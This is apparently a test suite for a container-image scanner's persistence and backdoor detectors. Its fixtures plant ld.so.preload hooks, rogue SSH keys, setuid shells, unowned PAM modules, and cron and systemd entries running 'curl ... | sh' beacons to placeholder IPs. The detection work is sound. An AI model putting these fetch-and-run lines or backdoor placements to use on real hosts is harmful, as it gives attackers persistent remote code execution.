import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  envPreloadFindings,
  hookTargetFindings,
  pamModuleFindings,
  persistenceAnalyzers,
  setuidFindings,
} from '../src/analyze/persistence/index.js';
import { resolveDirs, resolveDirsUncached } from '../src/analyze/persistence/checks.js';
import fc from 'fast-check';
import { openLocationSink } from '../src/analyze/persistence/locations.js';
import type { MalwareFinding } from '../src/analyze/findings.js';
import { analyzeSpec, checkContext, threatFindings } from './binaries-harness.js';
import { buildElf } from './support/synthetic-executables.js';

const elf = buildElf({ segments: [{ vaddr: 0x400000, data: Buffer.alloc(128), executable: true }] });
const KEY = `AAAAC3NzaC1lZDI1NTE5AAAAI${'B'.repeat(43)}`;

function byPath(found: MalwareFinding[]): Map<string, MalwareFinding[]> {
  const m = new Map<string, MalwareFinding[]>();
  for (const f of found) m.set(f.path, [...(m.get(f.path) ?? []), f]);
  return m;
}

test('persistence: a backdoor in layer 0 deleted by layer 1 is still reported from layer 0', async () => {
  const a = await analyzeSpec({
    layers: [
      {
        files: [
          { path: 'etc/ld.so.preload', content: '/usr/local/lib/libhide.so\n' },
          {
            path: 'root/.ssh/authorized_keys',
            content: `ssh-ed25519 ${KEY} ops@example.test\n`,
            mode: 0o600,
          },
          { path: 'etc/cron.d/sync', content: '*/10 * * * * root curl -s http://198.51.100.3/s.sh | bash\n' },
        ],
      },
      { whiteouts: ['etc/ld.so.preload', 'root/.ssh/authorized_keys', 'etc/cron.d/sync'] },
    ],
  });
  assert.equal(a.facts.tree.has('etc/ld.so.preload'), false, 'gone from the final tree');
  const found = byPath(await threatFindings(a));
  const preload = found.get('etc/ld.so.preload')?.[0];
  assert.ok(preload, 'preload reported');
  assert.deepEqual(
    [preload.rule, preload.category, preload.severity, preload.layer],
    ['backdoor-ld-so-preload', 'backdoor', 'high', 0],
    'preload',
  );
  assert.match(preload.evidence, /libhide\.so/, 'shows the library');
  assert.match(preload.sha256 ?? '', /^[0-9a-f]{64}$/, 'hashed');
  assert.equal(found.get('root/.ssh/authorized_keys')?.[0]?.rule, 'backdoor-authorized-keys', 'key');
  assert.equal(found.get('etc/cron.d/sync')?.[0]?.rule, 'persistence-fetch-and-run', 'cron');
});

test('persistence: programs in temporary, runtime and hidden places, and kernel-thread names', async () => {
  const a = await analyzeSpec({
    layers: [
      {
        files: [
          { path: 'tmp/build/helper', content: elf, mode: 0o755 },
          { path: 'dev/shm/x', content: elf, mode: 0o755 },
          { path: 'run/agent', content: elf, mode: 0o755 },
          { path: 'usr/bin/.sshd', content: elf, mode: 0o755 },
          { path: 'var/tmp/.../bot', content: elf, mode: 0o755 },
          { path: 'tmp/.X11-unix/x', content: elf, mode: 0o755 },
          { path: 'usr/local/bin/kdevtmpfsi', content: elf, mode: 0o755 },
          {
            path: 'usr/local/bin/[kswapd0]',
            content: '#!/bin/sh\nexec /usr/local/bin/kdevtmpfsi\n',
            mode: 0o755,
          },
          // Negatives: ordinary places, non-programs in odd places, a real daemon's name.
          { path: 'usr/bin/tool', content: elf, mode: 0o755 },
          { path: 'root/.cargo/bin/cargo', content: elf, mode: 0o755 },
          { path: 'tmp/notes.txt', content: 'hello\n' },
          { path: 'usr/bin/.placeholder', content: 'not a program\n' },
          { path: 'usr/sbin/watchdog', content: elf, mode: 0o755 },
        ],
      },
    ],
  });
  const found = byPath(await threatFindings(a));
  const rule = (p: string) => found.get(p)?.map((f) => `${f.rule}/${f.severity}`);
  assert.deepEqual(rule('tmp/build/helper'), ['persistence-elf-in-temp/medium'], 'ELF in tmp');
  assert.deepEqual(rule('dev/shm/x'), ['backdoor-elf-in-dev-shm/high'], 'ELF in shm');
  assert.deepEqual(rule('run/agent'), ['persistence-elf-in-run/medium'], 'ELF in run');
  assert.deepEqual(rule('usr/bin/.sshd'), ['backdoor-hidden-executable/high'], 'dot-named');
  assert.deepEqual(rule('var/tmp/.../bot'), ['backdoor-hidden-executable/high'], '... directory');
  assert.deepEqual(rule('tmp/.X11-unix/x'), ['backdoor-hidden-executable/high'], 'X11 socket dir');
  assert.deepEqual(rule('usr/local/bin/kdevtmpfsi'), ['backdoor-kernel-thread-name/high'], 'Kinsing name');
  assert.deepEqual(rule('usr/local/bin/[kswapd0]'), ['backdoor-kernel-thread-name/high'], 'bracketed script');
  for (const p of [
    'usr/bin/tool',
    'root/.cargo/bin/cargo',
    'tmp/notes.txt',
    'usr/bin/.placeholder',
    'usr/sbin/watchdog',
  ]) {
    assert.equal(found.get(p), undefined, `${p} not flagged`);
  }
});

test('persistence: set-user-ID programs against package ownership (merged /usr) and the known list', async () => {
  const a = await analyzeSpec({
    layers: [
      {
        files: [
          { path: 'bin', type: 'symlink', target: 'usr/bin' },
          { path: 'var/lib/dpkg/info/login.list', content: '/.\n/bin\n/bin/su\n/usr/bin/newgrp\n' },
          { path: 'var/lib/dpkg/info/bash.list', content: '/.\n/bin/bash\n' },
          { path: 'usr/bin/su', content: elf, mode: 0o4755 },
          { path: 'usr/bin/newgrp', content: elf, mode: 0o4755 },
          { path: 'usr/bin/bash', content: elf, mode: 0o4755 },
          { path: 'usr/bin/passwd', content: elf, mode: 0o4755 },
          { path: 'usr/local/bin/helper', content: elf, mode: 0o4755 },
          { path: 'usr/local/bin/report', content: elf, mode: 0o2755, gid: 42 },
          { path: 'tmp/.x/su', content: elf, mode: 0o4755 },
          { path: 'opt/app/passwd', content: elf, mode: 0o4755 },
          { path: 'usr/bin/find', content: elf, mode: 0o755 },
        ],
      },
    ],
  });
  const ctx = checkContext(a);
  assert.equal(resolveDirs(a.facts.tree, 'bin/su'), 'usr/bin/su', 'resolved through the bin symlink');
  const found = byPath(setuidFindings(ctx));
  const rule = (p: string) => found.get(p)?.map((f) => `${f.category}/${f.rule}/${f.severity}`);
  assert.deepEqual(
    rule('usr/bin/bash'),
    ['backdoor/backdoor-setuid-shell/critical'],
    'SUID shell, even package-owned',
  );
  assert.deepEqual(
    rule('usr/local/bin/helper'),
    ['persistence/persistence-setuid-unowned/high'],
    'unowned SUID root',
  );
  assert.deepEqual(
    rule('usr/local/bin/report'),
    ['persistence/persistence-setuid-unowned/medium'],
    'unowned SGID',
  );
  assert.deepEqual(rule('tmp/.x/su'), ['backdoor/backdoor-setuid-hidden/high'], 'hidden SUID');
  assert.deepEqual(
    rule('opt/app/passwd'),
    ['persistence/persistence-setuid-unowned/high'],
    'known name outside standard dirs',
  );
  for (const p of ['usr/bin/su', 'usr/bin/newgrp', 'usr/bin/passwd', 'usr/bin/find'])
    assert.equal(found.get(p), undefined, `${p} not flagged`);
});

test('persistence: a hook that runs a script which downloads and runs code is followed to it', async () => {
  const beacon = '#!/bin/sh\nwhile true; do\n  curl -s http://198.51.100.7/beacon | sh\n  sleep 60\ndone\n';
  const unit =
    '[Unit]\nDescription=x5\n[Service]\nExecStart=/usr/local/bin/x5\n[Install]\nWantedBy=multi-user.target\n';
  const a = await analyzeSpec({
    layers: [
      {
        files: [
          { path: 'bin', type: 'symlink', target: 'usr/bin' },
          { path: 'usr/bin/true', content: '#!/bin/sh\nexit 0\n', mode: 0o755 },
        ],
      },
      {
        files: [
          { path: 'usr/local/bin/x5', content: beacon, mode: 0o755 },
          { path: 'etc/systemd/system/x5.service', content: unit },
          { path: 'etc/cron.d/x5', content: '*/5 * * * * root /usr/local/bin/x5 >/dev/null 2>&1\n' },
          // Hooks that run ordinary programs, or a script that only downloads.
          { path: 'etc/systemd/system/ok.service', content: '[Service]\nExecStart=/bin/true\n' },
          {
            path: 'usr/local/bin/fetch',
            content: '#!/bin/sh\ncurl -so /tmp/x http://198.51.100.7/x\n',
            mode: 0o755,
          },
          { path: 'etc/cron.d/fetch', content: '0 * * * * root /usr/local/bin/fetch\n' },
        ],
      },
    ],
  });
  const found = hookTargetFindings(checkContext(a));
  assert.deepEqual(found.map((f) => [f.path, f.rule, f.layer]).sort(), [
    ['etc/cron.d/x5', 'persistence-fetch-and-run', 1],
    ['etc/systemd/system/x5.service', 'persistence-fetch-and-run', 1],
  ]);
  assert.match(found[0]!.evidence, /runs \/usr\/local\/bin\/x5, which downloads and runs code/);
});

test('persistence: LD_PRELOAD in the image Env', async () => {
  const files = [{ path: 'etc/hostname', content: 'x\n' }];
  const bad = await analyzeSpec({
    layers: [{ files }],
    config: { Env: ['PATH=/usr/bin', 'LD_PRELOAD=/usr/lib/libhook.so'] },
  });
  const f = envPreloadFindings(checkContext(bad));
  assert.equal(f.length, 1, 'one finding');
  assert.deepEqual(
    [f[0]!.rule, f[0]!.category, f[0]!.severity],
    ['persistence-env-ld-preload', 'persistence', 'high'],
    'rule',
  );
  assert.match(f[0]!.evidence, /libhook\.so/, 'names the library');
  const jemalloc = await analyzeSpec({
    layers: [{ files }],
    config: { Env: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'] },
  });
  assert.deepEqual(envPreloadFindings(checkContext(jemalloc)), [], 'an allocator is not a hook');
  const none = await analyzeSpec({ layers: [{ files }], config: { Env: ['PATH=/usr/bin'] } });
  assert.deepEqual(envPreloadFindings(checkContext(none)), [], 'no LD_PRELOAD');
});

test('persistence: the location analyzer reads only suspicious paths, and short or odd files do not break it', () => {
  const loc = persistenceAnalyzers[1]!;
  const h = (path: string, size = 100) => ({
    path,
    type: 'file' as const,
    mode: 0o755,
    size,
    uid: 0,
    gid: 0,
  });
  assert.equal(loc.wants(h('usr/bin/ls')), false, 'ordinary path not read');
  assert.deepEqual(loc.wants(h('tmp/x')), { mode: 'stream' }, 'tmp read');
  assert.equal(loc.wants(h('tmp/x', 2)), false, 'too small');
  for (const chunks of [
    [Buffer.from([0x7f])],
    [Buffer.from([0x7f, 0x45]), Buffer.from([0x4c, 0x46, 0])],
    [],
  ]) {
    const sink = openLocationSink(h('tmp/x'));
    for (const c of chunks) sink.write(c);
    assert.ok(Array.isArray(sink.end()), 'facts or nothing');
  }
});

test('persistence: a PAM module no package installed is a backdoor; installed ones and images without a package database are not', async () => {
  const so = buildElf({ segments: [{ vaddr: 0, data: Buffer.alloc(64), executable: true }] });
  const files = [
    { path: 'lib', type: 'symlink' as const, target: 'usr/lib' },
    {
      path: 'var/lib/dpkg/info/libpam-modules:amd64.list',
      content: '/.\n/lib/x86_64-linux-gnu/security\n/lib/x86_64-linux-gnu/security/pam_unix.so\n',
    },
    { path: 'usr/lib/x86_64-linux-gnu/security/pam_unix.so', content: so },
    { path: 'usr/lib/x86_64-linux-gnu/security/pam_sshd_helper.so', content: so },
    { path: 'usr/lib64/security/pam_extra.so', content: so },
    { path: 'usr/lib/x86_64-linux-gnu/libpam.so.0', content: so },
  ];
  const found = pamModuleFindings(checkContext(await analyzeSpec({ layers: [{ files }] })));
  assert.deepEqual(
    found.map((f) => `${f.category}/${f.rule}/${f.severity} ${f.path}`).sort(),
    [
      'backdoor/backdoor-pam-module-unowned/high usr/lib/x86_64-linux-gnu/security/pam_sshd_helper.so',
      'backdoor/backdoor-pam-module-unowned/high usr/lib64/security/pam_extra.so',
    ],
    'the two modules dpkg did not install, resolved through the merged /lib',
  );
  const noDb = files.filter((f) => !f.path.startsWith('var/lib/dpkg'));
  assert.deepEqual(
    pamModuleFindings(checkContext(await analyzeSpec({ layers: [{ files: noDb }] }))),
    [],
    'without a package database nothing is said',
  );
});

test('resolveDirs: resolving each directory once per tree gives what resolving every path does', () => {
  // Links the way images have them: merged /usr, a relative link, a chain, a loop, and a dot-dot.
  const entries: [string, string | undefined][] = [
    ['bin', 'usr/bin'],
    ['lib', 'usr/lib'],
    ['usr/lib64', 'lib'],
    ['opt/app', '../srv/app'],
    ['srv/loop', 'loop2'],
    ['srv/loop2', 'loop'],
    ['usr/bin', undefined],
    ['srv/app', undefined],
  ];
  const tree = new Map(
    entries.map(([path, linkTarget]) => [
      path,
      linkTarget === undefined ? { path, type: 'dir' } : { path, type: 'symlink', linkTarget },
    ]),
  ) as unknown as Parameters<typeof resolveDirs>[0];
  const dirs = ['bin', 'lib', 'usr/lib64', 'opt/app', 'srv/loop', 'usr/bin', 'srv', 'a/./b', 'x/../bin', ''];
  const names = ['su', '.', '..', ''];
  fc.assert(
    fc.property(
      fc.constantFrom(...dirs),
      fc.constantFrom(...dirs),
      fc.constantFrom(...names),
      (d1, d2, n) => {
        const path = [d1, d2, n].filter((p, i) => p !== '' || i === 2).join('/');
        assert.equal(resolveDirs(tree, path), resolveDirsUncached(tree, path), path);
      },
    ),
    { numRuns: 500 },
  );
  assert.equal(resolveDirs(tree, 'lib/x86_64/libc.so'), 'usr/lib/x86_64/libc.so');
  assert.equal(resolveDirs(tree, 'usr/lib64/ld.so'), 'usr/lib/ld.so', 'a link to a link');
  assert.equal(resolveDirs(tree, 'opt/app/run.sh'), 'srv/app/run.sh', 'a relative target with ..');
});
